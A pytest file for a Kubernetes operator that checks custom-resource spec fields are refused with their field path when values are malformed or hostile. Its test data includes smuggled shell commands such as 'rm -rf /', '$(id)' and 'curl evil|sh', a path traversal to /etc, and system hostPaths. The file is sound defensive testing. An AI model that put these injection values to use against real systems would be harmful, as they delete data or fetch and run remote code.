"""Every field that reaches a Job, a pod or a node path is checked as Kubernetes (or the registry) would:
the values a careless or hostile author tried are refused with the field path, by the operator and, where
a schema can say it, by the CRD's own patterns; the values real clusters use pass both."""

from __future__ import annotations

from typing import Any

import pytest
from compilecache_operator.model import formats
from compilecache_operator.model.spec import Defaults, InvalidSpec
from compilecache_operator.model.spec_parse import parse_spec

from tests.operator.crdschema import validator
from tests.operator.samples import raw_spec

TEN_KB = "v" * 10_240

BAD = [
    ({"image": "img:1; rm -rf /"}, "spec.image", True),
    ({"image": "imäge:1"}, "spec.image", True),
    ({"image": " registry.example/app:1"}, "spec.image", True),
    ({"image": "Registry.example/App:1"}, "spec.image", True),
    ({"image": "app:1\n"}, "spec.image", False),  # Go's '$' refuses it; jsonschema's (Python's) does not
    ({"image": "app:" + "t" * 129}, "spec.image", True),
    ({"warmup": {"tolerations": [{"key": "ключ", "operator": "Exists"}]}}, "spec.warmup.tolerations[0].key", True),
    ({"warmup": {"tolerations": [{"key": "$(id);x", "operator": "Exists"}]}}, "spec.warmup.tolerations[0].key", True),
    ({"warmup": {"tolerations": [{"key": "k", "value": "$(id);…"}]}}, "spec.warmup.tolerations[0].value", True),
    ({"warmup": {"tolerations": [{"key": "k", "operator": "Exists", "effect": "NoExecute",
                                  "tolerationSeconds": -1}]}}, "spec.warmup.tolerations[0].tolerationSeconds", True),
    ({"warmup": {"nodeSelector": {"bad key!": "v"}}}, "spec.warmup.nodeSelector", False),
    ({"warmup": {"nodeSelector": {"pool": TEN_KB}}}, "spec.warmup.nodeSelector.pool", True),
    ({"warmup": {"nodeSelector": {"pool": "a b"}}}, "spec.warmup.nodeSelector.pool", True),
    ({"warmup": {"resources": {"limits": {"gpü": "1"}}}}, "spec.warmup.resources.limits", False),
    ({"warmup": {"resources": {"requests": {"gpus": "1"}}}}, "spec.warmup.resources.requests", False),
    ({"preload": {"resources": {"limits": {"x y/z": "1"}}}}, "spec.preload.resources.limits", False),
    ({"warmup": {"helperResources": {"limits": {"x y/z": "1"}}}}, "spec.warmup.helperResources.limits", False),
    ({"warmup": {"helperResources": {"limits": {"memory": "1 Gi"}}}}, "spec.warmup.helperResources.limits.memory",
     True),
    ({"warmup": {"resources": {"requests": {"cpu": "4"}, "limits": {"cpu": "2000m"}}}},
     "spec.warmup.resources.requests.cpu", False),
    ({"warmup": {"resources": {"requests": {"example.com/fpga": "1"}, "limits": {"example.com/fpga": 2}}}},
     "spec.warmup.resources.requests.example.com/fpga", False),
    ({"preload": {"resources": {"requests": {"hugepages-2Mi": "1Gi"}}}},
     "spec.preload.resources.requests.hugepages-2Mi", False),
    ({"warmup": {"activeDeadlineSeconds": 4611686018427387904}}, "spec.warmup.activeDeadlineSeconds", True),
    ({"warmup": {"gpuResourceName": "gpu"}}, "spec.warmup.gpuResourceName", False),
    ({"remoteCache": {"host": "bad value"}}, "spec.remoteCache.host", True),
    ({"remoteCache": {"host": "r;curl evil|sh"}}, "spec.remoteCache.host", True),
    ({"remoteCache": {"host": "rédis"}}, "spec.remoteCache.host", True),
    ({"remoteCache": {"host": "redis\n"}}, "spec.remoteCache.host", False),
    ({"preload": {"nodeCache": {"hostPath": "/"}}}, "spec.preload.nodeCache.hostPath", True),
    ({"preload": {"nodeCache": {"hostPath": "/etc"}}}, "spec.preload.nodeCache.hostPath", False),
    ({"preload": {"nodeCache": {"hostPath": "/etc/"}}}, "spec.preload.nodeCache.hostPath", False),
    ({"preload": {"nodeCache": {"hostPath": "/var/lib/kubelet/pods"}}}, "spec.preload.nodeCache.hostPath", False),
    ({"preload": {"nodeCache": {"hostPath": "/var/cache/../../etc"}}}, "spec.preload.nodeCache.hostPath", False),
    ({"preload": {"nodeCache": {"hostPath": "/var//cache"}}}, "spec.preload.nodeCache.hostPath", True),
    ({"preload": {"nodeCache": {"hostPath": "/opt/elsewhere"}}}, "spec.preload.nodeCache.hostPath", False),
    ({"storage": {"url": "redis://TOKEN@host:6379/0"}}, "spec.storage.url", False),
    ({"storage": {"url": "redis://h:6379/0?password=PW"}}, "spec.storage.url", False),
    ({"storage": {"url": "redis://:pa#PW@h"}}, "spec.storage.url", False),
    ({"storage": {"url": "redis://:pa/PW@h"}}, "spec.storage.url", False),
    ({"storage": {"url": "redis://:pa?PW@h"}}, "spec.storage.url", False),
    ({"storage": {"url": "s3://bucket/p?secret=PW"}}, "spec.storage.url", False),
]
"""(spec overrides, the field path, whether the CRD's patterns and bounds already refuse it: the rest is
refused by CEL rules, which the API server runs (tests/e2e/test_spec_sweep.py), or by the operator alone)."""

GOOD = [
    {"image": "registry.example:5000/team/app:1.2-rc_3@sha256:" + "a" * 64},
    {"image": "[fd00::1]:5000/app:1"},
    {"image": "python"},
    {"warmup": {"nodeSelector": {"example.com/pool": "gpu-a", "zone": ""},
                "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoExecute",
                                 "tolerationSeconds": 600}],
                "resources": {"limits": {"cpu": "4", "memory": "8Gi", "nvidia.com/gpu": 1, "hugepages-2Mi": "1Gi"},
                              "requests": {"cpu": "3500m", "memory": "8Gi", "hugepages-2Mi": "1Gi"}},
                "activeDeadlineSeconds": 604800}},
    {"remoteCache": {"host": "Redis.Cache.svc"}},
    {"remoteCache": {"host": "10.0.0.7"}},
    {"remoteCache": {"host": "fd00::7"}},
    {"preload": {"nodeCache": {"hostPath": "/var/cache/compilecache"}}},
    {"preload": {"nodeCache": {"hostPath": "/mnt/nvme0/cc/"}}},
]


def refusal(overrides: dict[str, Any], defaults: Defaults | None = None) -> dict[str, str]:
    with pytest.raises(InvalidSpec) as caught:
        parse_spec(raw_spec(**overrides), defaults or Defaults())
    return {e.path: e.message for e in caught.value.errors}


@pytest.mark.parametrize(("overrides", "path", "by_schema"), BAD)
def test_bad_values_are_refused_with_the_field_path(overrides: dict[str, Any], path: str, by_schema: bool) -> None:
    errors = refusal(overrides)
    assert path in errors, errors
    for message in errors.values():
        assert "PW" not in message and "TOKEN" not in message, message
        assert len(message) < 600, "a bad value is shown clipped"
    if by_schema:
        body = {"apiVersion": "compilecache.io/v1alpha1", "kind": "CompileCache", "metadata": {},
                "spec": raw_spec(**overrides)}
        assert not validator().is_valid(body), "the CRD's schema refuses it too"


@pytest.mark.parametrize("overrides", GOOD)
def test_values_real_clusters_use_pass(overrides: dict[str, Any]) -> None:
    parse_spec(raw_spec(**overrides), Defaults())
    validator().validate({"apiVersion": "compilecache.io/v1alpha1", "kind": "CompileCache", "metadata": {},
                          "spec": raw_spec(**overrides)})


def test_the_node_cache_allow_list_comes_from_the_operator() -> None:
    only = Defaults(node_cache_roots=("/data/cc",))
    assert "spec.preload.nodeCache.hostPath" in refusal({"preload": {"nodeCache": {"hostPath": "/var/cache/x"}}}, only)
    parse_spec(raw_spec(preload={"nodeCache": {"hostPath": "/data/cc/x"}}), only)
    everything = Defaults(node_cache_roots=("/",))
    for system in ("/etc/x", "/proc", "/var/lib/kubelet", "/usr/local/x"):
        errors = refusal({"preload": {"nodeCache": {"hostPath": system}}}, everything)
        assert "system directory" in errors["spec.preload.nodeCache.hostPath"], system


@pytest.mark.parametrize(("check", "value", "ok"), [
    (formats.qualified_name_problem, "a" * 63, True),
    (formats.qualified_name_problem, "a" * 64, False),
    (formats.qualified_name_problem, "example.com/" + "a" * 63, True),
    (formats.qualified_name_problem, "Example.com/a", False),
    (formats.qualified_name_problem, "/a", False),
    (formats.label_value_problem, "", True),
    (formats.label_value_problem, "a" * 64, False),
    (formats.label_value_problem, "-a", False),
    (formats.resource_name_problem, "ephemeral-storage", True),
    (formats.resource_name_problem, "gpu", False),
    (formats.image_problem, "a/" * 127 + "b", True),
    (formats.image_problem, "a/" * 128 + "b", False),
    (formats.image_problem, "app@sha256:abc", False),
    (formats.host_problem, "a" * 64 + ".example", False),
    (formats.host_problem, "[fd00::1]", False),
])
def test_the_format_checks(check: Any, value: str, ok: bool) -> None:
    assert (check(value) is None) == ok, check(value)


def test_the_operators_node_cache_flags(capsys: pytest.CaptureFixture[str]) -> None:
    from compilecache_operator.main import parse_args, settings_from

    defaults = settings_from(parse_args(["--allowed-node-cache-paths", "/data/cc/,/mnt"])).defaults
    assert defaults.node_cache_roots == ("/data/cc", "/mnt")
    assert settings_from(parse_args([])).defaults.node_cache_roots == formats.DEFAULT_NODE_CACHE_ROOTS
    for argv in (["--allowed-node-cache-paths", "/mnt,/etc"], ["--node-cache-path", "/var/lib/kubelet"],
                 ["--allowed-node-cache-paths", "relative"]):
        with pytest.raises(SystemExit) as caught:
            parse_args(argv)
        assert caught.value.code == 2
        assert argv[0] in capsys.readouterr().err
